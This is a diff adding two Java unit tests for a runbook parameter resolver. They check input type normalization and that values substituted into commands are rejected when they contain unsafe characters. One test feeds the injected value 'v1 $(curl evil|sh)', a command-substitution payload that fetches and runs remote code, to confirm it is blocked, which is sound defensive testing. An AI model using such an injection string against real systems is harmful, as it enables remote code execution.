@@ -118,6 +118,52 @@ class ParameterResolverTests {
 				".agents/logs/verification/20260227_140509_e2_3_reload_cutover_rehearsal");
 	}
 
+	@Test
+	void checksEachInputAgainstItsTypeAndNormalizesIt() {
+		List<Parameter> parameters = List.of(
+				new Parameter("P95", "p95", Source.INPUT, null, null, RunbookTemplate.ParameterType.NUMBER, true),
+				new Parameter("SHA", "sha", Source.INPUT, null, null, RunbookTemplate.ParameterType.SHA256, true),
+				new Parameter("AT", "at", Source.INPUT, null, null, RunbookTemplate.ParameterType.TIMESTAMP, true),
+				new Parameter("RPO", "rpo", Source.INPUT, null, null, RunbookTemplate.ParameterType.DURATION, true),
+				new Parameter("SLO", "slo", Source.INPUT, null, null, RunbookTemplate.ParameterType.URL, true),
+				new Parameter("NOTE", "note", Source.INPUT, null, null, RunbookTemplate.ParameterType.TEXT, false));
+
+		Map<String, String> values = ParameterResolver
+			.resolve(parameters, T0, CREATED,
+					Map.of("P95", "3e2", "SHA", "CEB56F73837A9C775E2B7F2C870628C89F5A110DB8801F80E6DAE43533BD6B32",
+							"AT", "2026-03-01T09:00:00.000Z", "RPO", "1h30m", "SLO", "https://grafana.example/d/slo"),
+					BUILT_INS);
+
+		assertThat(values).containsEntry("P95", "300")
+			.containsEntry("SHA", "ceb56f73837a9c775e2b7f2c870628c89f5a110db8801f80e6dae43533bd6b32")
+			.containsEntry("AT", "2026-03-01T09:00:00Z")
+			.containsEntry("RPO", "1h30m")
+			.containsEntry("NOTE", "");
+		assertThatExceptionOfType(RunParameterException.class)
+			.isThrownBy(() -> ParameterResolver.resolve(parameters, T0, CREATED,
+					Map.of("P95", "x", "SHA", "abc", "AT", "2026-03-01T09:00", "RPO", "-5m", "SLO", "ftp://files",
+							"NOTE", "two\nlines"),
+					BUILT_INS))
+			.satisfies((ex) -> assertThat(ex.keys()).containsExactly("P95", "SHA", "AT", "RPO", "SLO", "NOTE"));
+	}
+
+	@Test
+	void aValueThatStandsInACommandHoldsOnlyCommandSafeCharacters() throws Exception {
+		RunbookTemplate goLive = new RunbookParser().parse("go-live-canary-money-loop.yml",
+				Files.readString(Path.of("config/runbooks/go-live-canary-money-loop.yml")));
+		assertThat(ParameterResolver.commandUses(goLive)).containsOnlyKeys("RELEASE", "CANARY_TENANT");
+
+		assertThatExceptionOfType(RunParameterException.class)
+			.isThrownBy(() -> ParameterResolver.resolve(goLive, T0, CREATED, Map.of("CANARY_TENANT", "t-1"),
+					Map.of("RELEASE", "v1 $(curl evil|sh)", "ENVIRONMENT", "prod", "CUTOVER_NAME", "Go-live 7")))
+			.withMessageContaining("Release SHA or tag (RELEASE) stands in a command (step 'Release SHA/Tag fixed')")
+			.withMessageContaining("found a space, $(, '(', '|', ')'");
+		assertThat(ParameterResolver.resolve(goLive, T0, CREATED, Map.of("CANARY_TENANT", "tenant-canary-01"),
+				Map.of("RELEASE", "v1.4.0+build.7", "ENVIRONMENT", "prod", "CUTOVER_NAME", "Go-live [7] `rc`")))
+			.containsEntry("RELEASE", "v1.4.0+build.7")
+			.containsEntry("CUTOVER_NAME", "Go-live [7] `rc`");
+	}
+
 	private static Map<String, String> resolve(List<Parameter> parameters) {
 		return ParameterResolver.resolve(parameters, T0, CREATED, Map.of(), BUILT_INS);
 	}
